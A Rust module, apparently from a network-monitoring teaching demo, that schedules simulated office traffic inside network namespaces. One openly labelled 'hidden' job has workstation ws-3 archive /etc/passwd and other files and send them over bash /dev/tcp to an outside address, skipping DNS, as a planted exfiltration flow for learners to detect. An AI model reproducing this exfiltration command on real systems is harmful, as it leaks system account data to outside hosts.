//! The office's working day, on a schedule: what each kind of traffic is,
//! who makes it and how often, as real clients (curl, bash) started inside
//! the hosts' namespaces. Every name is looked up in the office's DNS first,
//! as a program would, so DNS lookups are part of the traffic.
//!
//! One flow is hidden in the routine: every few minutes ws-3 sends an
//! archive of its /etc to an outside address on an unusual port, by address
//! (no DNS lookup to give it away). docs/MAP.md lists it as something to
//! find on the map.

use std::process::{Command, Stdio};

use anyhow::Result;

use super::child::Child;
use super::office::{Host, Office, Role, HIDDEN_V4, UPDATES_NAME};
use super::services::{HIDDEN_PORT, HTTPS_PORT, IPP_PORT, RAW_PRINT_PORT, SHARE_PORT, WEB_PORT};

/// Longest a client may run before it is stopped.
const CLIENT_TIMEOUT_SECONDS: &str = "10";

/// One kind of traffic: every `period` seconds, from `first` on.
struct Job {
    what: &'static str,
    period: u64,
    first: u64,
    /// The host and the shell script of the `n`th run.
    run: fn(&Office, u64) -> (Host, String),
}

const JOBS: [Job; 7] = [
    Job {
        what: "a workstation saves a document to the file share",
        period: 5,
        first: 1,
        run: |office, n| {
            let fs = office.with_role(Role::FileServer).fqdn();
            let script = format!("head -c 200000 /dev/urandom > /dev/tcp/{fs}/{SHARE_PORT}");
            (workstation(office, n), script)
        },
    },
    Job {
        what: "a workstation opens the intranet (IPv4 and IPv6 in turn)",
        period: 4,
        first: 2,
        run: |office, n| {
            let web = office.with_role(Role::WebServer).fqdn();
            let family = if n % 2 == 0 { "-6" } else { "-4" };
            let script = format!("curl -s -o /dev/null {family} http://{web}:{WEB_PORT}/");
            (workstation(office, n + 1), script)
        },
    },
    Job {
        what: "a workstation checks for updates outside (HTTPS)",
        period: 7,
        first: 3,
        run: |office, n| {
            let script = format!("curl -sk -o /dev/null https://{UPDATES_NAME}:{HTTPS_PORT}/");
            (workstation(office, n + 2), script)
        },
    },
    Job {
        what: "a workstation prints (raw, port 9100)",
        period: 15,
        first: 5,
        run: |office, n| {
            let printer = office.with_role(Role::Printer).fqdn();
            let script = format!(
                "printf '%%!PS\\n/Helvetica findfont 12 scalefont setfont 72 720 moveto (Minutes) show showpage\\n' > /dev/tcp/{printer}/{RAW_PRINT_PORT}"
            );
            (workstation(office, n + 3), script)
        },
    },
    Job {
        what: "a workstation prints (IPP, port 631)",
        period: 15,
        first: 12,
        run: |office, n| {
            let printer = office.with_role(Role::Printer).fqdn();
            let script = format!(
                "printf 'print job' | curl -s -o /dev/null -H 'Content-Type: application/ipp' --data-binary @- http://{printer}:{IPP_PORT}/ipp/print"
            );
            (workstation(office, n), script)
        },
    },
    Job {
        what: "the intranet server copies its pages to the file share",
        period: 20,
        first: 8,
        run: |office, _| {
            let fs = office.with_role(Role::FileServer).fqdn();
            let web = office.with_role(Role::WebServer).clone();
            let script = format!("tar c -C /etc os-release > /dev/tcp/{fs}/{SHARE_PORT}");
            (web, script)
        },
    },
    Job {
        what: "hidden: ws-3 sends an archive of /etc to an outside address",
        period: 180,
        first: 20,
        run: |office, _| {
            let script = format!(
                "tar cz -C /etc os-release hostname passwd 2>/dev/null > /dev/tcp/{HIDDEN_V4}/{HIDDEN_PORT}"
            );
            (hidden_sender(office).clone(), script)
        },
    },
];

/// The workstation that sends the hidden flow.
fn hidden_sender(office: &Office) -> &Host {
    office.workstations()[2]
}

fn workstation(office: &Office, n: u64) -> Host {
    let workstations = office.workstations();
    workstations[(n % workstations.len() as u64) as usize].clone()
}

/// The schedule, one line per kind, for the demo's start-up text.
pub fn describe() -> Vec<String> {
    JOBS.iter()
        .map(|job| format!("every {:>3} s  {}", job.period, job.what))
        .collect()
}

/// Runs the schedule: call [`Traffic::tick`] once a second.
#[derive(Default)]
pub struct Traffic {
    second: u64,
    clients: Vec<Child>,
}

impl Traffic {
    /// Starts the clients due in this second and forgets those that ended.
    pub fn tick(&mut self, office: &Office) -> Result<()> {
        self.clients.retain_mut(Child::running);
        for job in &JOBS {
            if self.second < job.first || (self.second - job.first) % job.period != 0 {
                continue;
            }
            let n = (self.second - job.first) / job.period;
            let (host, script) = (job.run)(office, n);
            let mut command = Command::new("ip");
            command
                .args([
                    "netns",
                    "exec",
                    &host.netns,
                    "timeout",
                    CLIENT_TIMEOUT_SECONDS,
                ])
                .args(["bash", "-c", &script])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            self.clients.push(Child::spawn(
                command,
                format!("{} on {}", job.what, host.name),
            )?);
        }
        self.second += 1;
        Ok(())
    }

    pub fn stop(&mut self) {
        super::child::stop_all(&mut self.clients);
    }
}
